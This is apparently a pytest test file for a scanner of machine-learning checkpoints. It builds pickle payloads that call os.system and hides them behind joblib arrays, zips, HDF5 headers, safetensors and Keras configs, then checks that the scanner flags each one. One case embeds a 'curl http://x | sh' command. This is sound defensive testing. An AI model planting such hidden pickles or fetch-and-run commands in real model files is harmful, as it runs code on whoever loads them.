"""What stands where scanners stop looking: behind a joblib array, in odd zips, in HDF5, in Keras' configuration."""

from __future__ import annotations

import gzip
import io
import json
import logging
import os
import pickle
import re
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from safetensors.torch import save

from modelprobe.checkpoint.answers.scan import scan
from modelprobe.checkpoint.pickle.globals import Trust
from tests.checkpoint.payloads import text
from tests.checkpoint.scan.test_attacks import by_global

joblib = pytest.importorskip("joblib")
SYSTEM = by_global("os", "system", ("true",))
HDF = b"\x89HDF\r\n\x1a\n"


class Runs:
    def __reduce__(self) -> Any:
        return os.system, ("true",)


def dumped(value: Any) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(value, buffer)
    return buffer.getvalue()


def zipped(members: dict[str, bytes], how: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", how) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def saved(value: Any) -> bytes:
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


def array(value: Any) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, value)
    return buffer.getvalue()


ARRAYS = {
    "a": np.zeros(5),
    "b": np.arange(6, dtype="u4").reshape(2, 3),
    "c": np.array(["x", "yz"]),
    "d": np.ones(2, bool),
}
LAMBDA = {"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAA=="}}}}

ATTACKS: dict[str, tuple[bytes, Trust]] = {
    "behind arrays of joblib": (
        dumped(ARRAYS)[:-1] + b"0cos\nsystem\n(" + text("true") + b"tR.",
        Trust.DANGEROUS,
    ),
    "in an array of objects": (dumped({"n": np.zeros(3), "a": np.array([Runs(), 1], dtype=object)}), Trust.DANGEROUS),
    "cut joblib": (dumped(ARRAYS)[:-40], Trust.SUSPICIOUS),
    "zip packed with bz2": (zipped({"data.pkl": SYSTEM}, zipfile.ZIP_BZIP2), Trust.SUSPICIOUS),
    "zip packed with lzma": (zipped({"data.pkl": SYSTEM}, zipfile.ZIP_LZMA), Trust.SUSPICIOUS),
    "bytes before a zip": (b"hello" + zipped({"data.pkl": SYSTEM}), Trust.DANGEROUS),
    "zip behind a pickle": (pickle.dumps({"a": 1}) + zipped({"data.pkl": SYSTEM}), Trust.DANGEROUS),
    "oldest pickle in a zip, oddly named": (zipped({"weights": b"cos\nsystem\n(S'true'\ntR."}), Trust.DANGEROUS),
    "pickle in HDF5": (HDF + bytes(5000) + SYSTEM + bytes(500), Trust.DANGEROUS),
    "oldest pickle in HDF5": (HDF + bytes(5000) + b"cos\nsystem\n(S'true'\ntR." + bytes(500), Trust.DANGEROUS),
    "lambda in .keras": (
        zipped({"config.json": json.dumps({"module": "keras.layers", **LAMBDA}).encode()}),
        Trust.SUSPICIOUS,
    ),
    "module in .keras": (
        zipped({"config.json": json.dumps({"module": "os", "class_name": "function", "config": "system"}).encode()}),
        Trust.DANGEROUS,
    ),
    "torch.package": (
        zipped({"p/a.pkl": b"\x80\x02}.", "p/a.py": b"x", "p/.data/extern_modules": b""}),
        Trust.SUSPICIOUS,
    ),
    "a command for a class": (by_global("mypkg", "Model", ("curl http://x | sh",)), Trust.SUSPICIOUS),
    "bytes saved by torch": (saved({"b": pickle.dumps(Runs())}), Trust.DANGEROUS),
    "an old pickle in a text": (pickle.dumps({"t": "cos\nsystem\n(S'true'\ntR."}, 4), Trust.DANGEROUS),
    "bytes in the oldest protocol": (pickle.dumps({"b": pickle.dumps(Runs())}, 0), Trust.DANGEROUS),
    "a compressed pickle in bytes saved by torch": (saved([gzip.compress(SYSTEM)]), Trust.DANGEROUS),
    "behind many values": (saved([os.urandom(9) for _ in range(5000)] + [pickle.dumps(Runs())]), Trust.DANGEROUS),
    "behind bytes that are none": (pickle.dumps({"a": 1}) + b"\1\2\3" * 99 + SYSTEM, Trust.DANGEROUS),
    "behind safetensors": (save({"a": torch.ones(3)}) + b"\1\2\3" * 9 + SYSTEM, Trust.DANGEROUS),
    "behind a zip": (saved({"a": 1}) + SYSTEM, Trust.DANGEROUS),
    "behind an array": (array(np.ones((2, 3))) + array(np.ones(())) + SYSTEM, Trust.DANGEROUS),
    "bytes of no format behind safetensors": (save({"a": torch.ones(3)}) + b"\1\2\3" * 9, Trust.UNKNOWN),
    "a pickle that ends early": (pickle.dumps({"a": [1, 2, 3]}, 4)[:-3], Trust.SUSPICIOUS),
}  # fmt: skip


@pytest.mark.parametrize("kind", ATTACKS)
def test_none_passes(kind: str, tmp_path: Path) -> None:
    raw, trust = ATTACKS[kind]
    (tmp_path / "m.bin").write_bytes(raw)
    assert scan(tmp_path / "m.bin").worst is trust


def test_joblib_is_read_to_its_end(tmp_path: Path) -> None:
    for compress in (0, 3, ("xz", 1)):
        values = {**ARRAYS, "o": np.array([1, "x", None], dtype=object), "s": np.zeros(2, [("a", "f4"), ("b", "i8")])}
        joblib.dump(values, tmp_path / "m.joblib", compress=compress)
        found = scan(tmp_path / "m.joblib")
        assert (found.worst, found.problems) == (Trust.HARMLESS, ())


def test_hdf5_is_never_called_read(tmp_path: Path) -> None:
    (tmp_path / "m.h5").write_bytes(HDF + np.random.default_rng(0).bytes(1 << 20))
    found = scan(tmp_path / "m.h5")
    assert (found.worst, found.imports) == (Trust.UNKNOWN, ())
    texts = " ".join(note.text for note in found.report().notes)
    assert "packed data are not read" in texts
    assert "nothing in it" not in texts


def test_ordinary_reducers_are_no_alarm(tmp_path: Path) -> None:
    value = {"log": logging.getLogger("a.b"), "shape": re.compile("x+"), "version": torch.__version__}
    (tmp_path / "m.pkl").write_bytes(pickle.dumps(value))
    assert scan(tmp_path / "m.pkl").worst is Trust.HARMLESS


@pytest.mark.parametrize("behind", [b"", bytes(4096), array(np.zeros(3))])
def test_padding_and_arrays_in_a_row_are_no_alarm(behind: bytes, tmp_path: Path) -> None:
    for raw in (save({"a": torch.ones(3)}), saved({"a": torch.ones(3)}), array(np.ones((2, 3)))):
        if behind[:1] == b"\x93" and raw[:1] != b"\x93":
            continue
        (tmp_path / "m.bin").write_bytes(raw + behind)
        assert scan(tmp_path / "m.bin").worst is Trust.HARMLESS
